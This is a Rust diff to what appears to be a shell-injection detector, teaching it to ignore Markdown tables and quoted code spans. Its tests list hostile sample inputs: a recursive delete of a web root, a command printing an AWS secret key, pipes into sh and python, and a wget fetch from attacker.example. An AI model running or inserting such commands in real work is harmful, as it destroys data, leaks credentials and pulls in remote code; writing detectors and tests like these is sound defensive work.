@@ -412,6 +412,8 @@ fn separators(
     static FENCE: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
         std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"```"));
     let fenced = FENCE.find(b).is_some();
+    // Whether the current line is one the shell rejects whole (see `starts_with_pipe`).
+    let mut dead_line = false;
     while i < b.len() {
         // Most bytes mean nothing to the shell: skip them in a tight loop.
         if q.is_none() {
@@ -451,8 +453,25 @@ fn separators(
                 continue;
             } else if open == b'"' && (c == b'`' || c == b'(' && opened_by(i, escaped, b"$")) {
                 let at = if c == b'`' { i } else { i - 1 };
-                if may_start_command(b, i + 1) {
-                    if let Some(hit) = each(Sep::Substitution, at, i + 1) {
+                // A span right after the quote (`"`id`"`) is the quoted text's command.
+                let quoted_command = i > 0 && b[i - 1] == b'"';
+                let markdown =
+                    c == b'`' && !strict && !whole_backticks && !glued(b, i) && !quoted_command;
+                let sep = if markdown {
+                    // Markdown code, as outside quotes; a span closed before the next `"`
+                    // is shown, not run.
+                    match markdown_span_end(b, i) {
+                        Some(end) => {
+                            i = end;
+                            continue;
+                        }
+                        None => Sep::Markdown,
+                    }
+                } else {
+                    Sep::Substitution
+                };
+                if !dead_line && may_start_command(b, i + 1) {
+                    if let Some(hit) = each(sep, at, i + 1) {
                         return Some(hit);
                     }
                 }
@@ -496,8 +515,10 @@ fn separators(
                 continue;
             }
             b'&' => (Sep::Soft, i),
-            b'\n' if fenced => (Sep::Markdown, i),
-            b'\n' => (Sep::Newline, i),
+            b'\n' => {
+                dead_line = starts_with_pipe(b, i + 1);
+                (if fenced { Sep::Markdown } else { Sep::Newline }, i)
+            }
             b'(' if opened_by(i, escaped, b"$") && b.get(i + 1) != Some(&b'(') => {
                 (Sep::Substitution, i - 1)
             }
@@ -511,8 +532,7 @@ fn separators(
                 }
                 // A code span in Markdown has space or punctuation outside its backticks; a
                 // substitution is glued to a word (`a`id`b`) or is the whole value.
-                let glued = i > 0 && is_word_byte(b[i - 1]);
-                if glued || whole_backticks || strict {
+                if glued(b, i) || whole_backticks || strict {
                     (Sep::Hard, i)
                 } else {
                     // Markdown code is quoted text: what is inside the span (`a | b`) is
@@ -532,7 +552,7 @@ fn separators(
             }
         };
         // `i` is the operator's last byte.
-        if may_start_command(b, i + 1) {
+        if !dead_line && may_start_command(b, i + 1) {
             if let Some(hit) = each(sep, at, i + 1) {
                 return Some(hit);
             }
@@ -540,6 +560,29 @@ fn separators(
         i += 1;
     }
     None
+}
+
+/// Whether the line after the newline at `from - 1` starts with `|` (past blanks). A shell
+/// rejects such a line whole, before running any of it ("syntax error near unexpected token
+/// `|'"): nothing on it is a command. Markdown tables (`| python | 3.12 |`) are made of such
+/// lines. The value's first line is not one: there `|` follows the command it is pasted into.
+fn starts_with_pipe(b: &[u8], from: usize) -> bool {
+    b.get(from..)
+        .and_then(|rest| rest.iter().find(|&&c| !matches!(c, b' ' | b'\t' | b'\r')))
+        == Some(&b'|')
+}
+
+/// Whether the backtick at `i` is glued to a word before it (`a`id`b`): a substitution, where
+/// a Markdown code span has space or punctuation outside it.
+fn glued(b: &[u8], i: usize) -> bool {
+    i > 0 && is_word_byte(b[i - 1])
+}
+
+/// Inside double quotes, where a Markdown code span opened at `i` ends (past its closing
+/// backtick), if it closes before the next `"` would close the quotes.
+fn markdown_span_end(b: &[u8], i: usize) -> Option<usize> {
+    let close = memchr::memchr2(b'`', b'"', &b[i + 1..])?;
+    (b[i + 1 + close] == b'`').then_some(i + close + 2)
 }
 
 /// Whether what follows an operator (past blanks) can start a command: a letter, a path, a
@@ -1116,6 +1159,7 @@ mod tests {
         let whole_backticks =
             trimmed.len() > 2 && trimmed.starts_with('`') && trimmed.ends_with('`');
         let fenced = memchr::memmem::find(b, b"```").is_some();
+        let mut dead_line = false;
         while i < b.len() {
             // Most bytes mean nothing to the shell: skip them in a tight loop.
             if q.is_none() {
@@ -1154,8 +1198,22 @@ mod tests {
                     continue;
                 } else if open == b'"' && (c == b'`' || c == b'$' && b.get(i + 1) == Some(&b'(')) {
                     let len = if c == b'`' { 1 } else { 2 };
-                    if may_start_command(b, i + len) {
-                        if let Some(hit) = each(Sep::Substitution, i, i + len) {
+                    let quoted_command = i > 0 && b[i - 1] == b'"';
+                    let markdown =
+                        c == b'`' && !strict && !whole_backticks && !glued(b, i) && !quoted_command;
+                    if markdown {
+                        if let Some(end) = markdown_span_end(b, i) {
+                            i = end;
+                            continue;
+                        }
+                    }
+                    let sep = if markdown {
+                        Sep::Markdown
+                    } else {
+                        Sep::Substitution
+                    };
+                    if !dead_line && may_start_command(b, i + len) {
+                        if let Some(hit) = each(sep, i, i + len) {
                             return Some(hit);
                         }
                     }
@@ -1191,8 +1249,10 @@ mod tests {
                     continue;
                 }
                 b'&' => (Sep::Soft, 1),
-                b'\n' if fenced => (Sep::Markdown, 1),
-                b'\n' => (Sep::Newline, 1),
+                b'\n' => {
+                    dead_line = starts_with_pipe(b, i + 1);
+                    (if fenced { Sep::Markdown } else { Sep::Newline }, 1)
+                }
                 b'$' if b.get(i + 1) == Some(&b'(') && b.get(i + 2) != Some(&b'(') => {
                     (Sep::Substitution, 2)
                 }
@@ -1206,8 +1266,7 @@ mod tests {
                     }
                     // A code span in Markdown has space or punctuation outside its backticks; a
                     // substitution is glued to a word (`a`id`b`) or is the whole value.
-                    let glued = i > 0 && is_word_byte(b[i - 1]);
-                    if glued || whole_backticks || strict {
+                    if glued(b, i) || whole_backticks || strict {
                         (Sep::Hard, 1)
                     } else {
                         // Markdown code is quoted text: what is inside the span (`a | b`) is
@@ -1226,7 +1285,7 @@ mod tests {
                     continue;
                 }
             };
-            if may_start_command(b, i + len) {
+            if !dead_line && may_start_command(b, i + len) {
                 if let Some(hit) = each(sep, i, i + len) {
                     return Some(hit);
                 }
@@ -1430,6 +1489,12 @@ mod tests {
             "file.txt\r\ndel /q /s C:\\inetpub\\wwwroot\\*",
             "; id #",
             "$(printenv AWS_SECRET_ACCESS_KEY)",
+            // A pipe on the value's first line follows the command it is pasted into.
+            "| python -c 'import os; os.system(\"id\")'",
+            "name\\\n| sh",
+            // Inside double quotes, backticks glued to a word or wrapping the value still run.
+            "a\"b`id`",
+            "x \"`wget attacker.example/x`\"",
         ] {
             assert!(hit(v), "missed: {v}");
         }
@@ -1463,6 +1528,11 @@ mod tests {
             "cd ~/projects/app && ls -la",
             "```python\nprint(\"hello, world\")\n```",
             "/items/`exec()` in our codebase is the job executor",
+            // Markdown tables: every row starts with `|`, which no shell accepts.
+            "## Runtimes\n\n| Name | Language |\n|---|---|\n| [Auth API](./auth) | python |\n| Worker | sh -c |",
+            // A stray quote: the code spans after it are still Markdown, not substitutions.
+            "Open `http://localhost:9999/' in a browser.\nThen run `npm install` and `npm run dev`.",
+            "He said \"run `npm install` first\", and it worked",
         ] {
             assert!(
                 !hit(v),
@@ -1476,5 +1546,7 @@ mod tests {
     fn strict_fields_take_any_command() {
         assert!(detect("x; frobnicate", Strictness::Sink).is_some());
         assert!(detect("x; frobnicate", Strictness::Generic).is_none());
+        // A field known to reach a shell: a code span inside double quotes runs.
+        assert!(detect("x \"run `id` now\"", Strictness::Sink).is_some());
     }
 }
